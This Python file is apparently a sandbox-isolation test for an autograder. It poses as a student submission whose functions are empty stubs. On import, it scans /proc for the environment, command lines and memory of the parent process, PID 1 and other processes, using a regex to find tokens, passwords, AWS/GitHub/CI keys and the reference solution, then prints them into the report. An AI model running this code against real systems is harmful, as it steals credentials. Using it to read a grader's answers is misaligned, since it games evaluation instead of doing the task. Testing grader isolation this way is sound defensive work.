"""Attack (reading the answers, stealing secrets): read other processes through /proc.

The grader's process holds the rubric, the reference's answers and its environment (CI
tokens). The student reads /proc/<ppid>/mem and /proc/<ppid>/environ, /proc/1/environ, and
every visible process's environ, cmdline and readable memory, looking for environment
variables and the reference's source, and prints what it finds (so it shows up in the
report the student gets back). It implements nothing itself.

Expected: the worker is PID 1 of its own namespace with a clean environment and sees no
other process; no secret in the report; every part 0.
"""

import os
import re

_notes = []
_ME = os.getpid()
SECRET_NAME = re.compile(rb"(?:TOKEN|SECRET|PASSWORD|KEY|AWS_|GITHUB_|CI_)[A-Z_]*=[^\x00\n]{1,200}")


def _read(path, size=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(size)
    except OSError as exc:
        return exc


def _scan_memory(pid, budget=64 << 20):
    maps = _read(f"/proc/{pid}/maps")
    if isinstance(maps, Exception):
        return f"maps: {maps.strerror}"
    found = []
    try:
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError as exc:
        return f"mem: {exc.strerror}"
    with mem:
        for line in maps.decode().splitlines():
            span, perms = line.split()[:2]
            if not perms.startswith("r"):
                continue
            start, end = (int(v, 16) for v in span.split("-"))
            size = min(end - start, budget)
            if size <= 0:
                break
            try:
                mem.seek(start)
                chunk = mem.read(size)
            except (OSError, OverflowError, ValueError):
                continue
            budget -= size
            found += [m.group().decode(errors="replace") for m in SECRET_NAME.finditer(chunk)]
            if b"backward_sign_flipped" in chunk:
                found.append("the reference's source")
    return found


def hunt():
    pids = {os.getppid(), 1}
    pids.update(int(p) for p in os.listdir("/proc") if p.isdigit())
    for pid in sorted(pids):
        environ = _read(f"/proc/{pid}/environ")
        if isinstance(environ, bytes) and environ:
            secrets = [v for v in environ.split(b"\0") if SECRET_NAME.match(v)]
            _notes.append(f"pid {pid} environ ({len(environ)} bytes): {b' '.join(environ.split(chr(0).encode()))[:400]!r}")
            if secrets:
                _notes.append(f"SUCCESS: secrets of pid {pid}: {secrets}")
        cmdline = _read(f"/proc/{pid}/cmdline")
        if isinstance(cmdline, bytes):
            _notes.append(f"pid {pid} cmdline: {cmdline[:200]!r}")
        if pid != _ME:
            found = _scan_memory(pid)
            if found and isinstance(found, list):
                _notes.append(f"SUCCESS: memory of pid {pid}: {found[:10]}")
            else:
                _notes.append(f"pid {pid} memory: {found or 'nothing'}")
    print("\n".join(sorted(_notes, key=lambda n: not n.startswith("SUCCESS"))[:40]))


hunt()


def forward(alpha, beta, x, y):
    return None


def backward(alpha, beta, x, y):
    return None


def chain_rule(dy_dx, dz_dy):
    return None


def d_Ax_dx(A, x):
    return None


def linear_regression(X, y):
    return None
